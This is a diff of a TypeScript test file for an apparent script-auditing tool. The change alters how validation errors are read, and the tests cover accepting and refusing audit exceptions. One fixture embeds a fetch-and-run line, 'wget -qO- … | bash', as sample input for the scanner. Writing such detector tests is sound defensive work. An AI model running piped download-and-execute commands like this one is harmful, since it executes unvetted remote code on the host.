@@ -64,7 +64,7 @@ describe('matching', () => {
 
   it('matches nothing once one byte of the skill changes', () => {
     const e = validateException(entry());
-    if (!e.ok) throw new Error(e.message);
+    if (!e.ok) throw new Error(e.error.message);
     const changed = audited(SCRIPT.replace('example.com', 'exbmple.com'));
     const v = skillVerdict(changed.checks, { skill: 'audit', integrity: changed.integrity, exceptions: [e.value] });
     expect(v.accepted).toEqual([]);
@@ -75,7 +75,7 @@ describe('matching', () => {
     const { checks, integrity } = audited();
     for (const over of [{ line: 2 }, { file: 'scripts/other.sh' }, { check: 'secrets' }, { skill: 'other' }]) {
       const e = validateException(entry(over));
-      if (!e.ok) throw new Error(e.message);
+      if (!e.ok) throw new Error(e.error.message);
       expect(skillVerdict(checks, { skill: 'audit', integrity, exceptions: [e.value] }).blocking).toHaveLength(1);
     }
   });
@@ -83,7 +83,7 @@ describe('matching', () => {
   it('accepting one of two places of a check leaves the check blocking at the other', () => {
     const { checks, integrity } = audited(`${SCRIPT}wget -qO- https://example.com/b.sh | bash\n`);
     const e = validateException(entry({ integrity }));
-    if (!e.ok) throw new Error(e.message);
+    if (!e.ok) throw new Error(e.error.message);
     const v = skillVerdict(checks, { skill: 'audit', integrity, exceptions: [e.value] });
     expect(v.accepted).toHaveLength(1);
     expect(v.blocking[0]!.locations.map((l) => l.line)).toEqual([4]);
@@ -95,7 +95,10 @@ describe('refused entries', () => {
     const e = validateException(entry({ check: 'visible-text' }));
     expect(e).toEqual({
       ok: false,
-      message: expect.stringMatching(/visible-text finding cannot be accepted — invisible or hidden text/),
+      error: {
+        code: 'invalid-input',
+        message: expect.stringMatching(/visible-text finding cannot be accepted — invisible or hidden text/),
+      },
     });
   });
 
@@ -112,12 +115,12 @@ describe('refused entries', () => {
   ])('%j is refused', (over, message) => {
     const e = validateException(entry(over));
     expect(e.ok).toBe(false);
-    if (!e.ok) expect(e.message).toMatch(message);
+    if (!e.ok) expect(e.error.message).toMatch(message);
   });
 
   it('kitbash.toml: good entries apply, a bad one is dropped and reported with its number', () => {
     const v = validateException(entry());
-    if (!v.ok) throw new Error(v.message);
+    if (!v.ok) throw new Error(v.error.message);
     const good = exceptionToml(v.value);
     const text = `[policy]\nmax_budget = 2000\n\n${good}\n[[policy.exceptions]]\nskill = "audit"\ncheck = "visible-text"\n`;
     const c = parseProjectConfig(text);
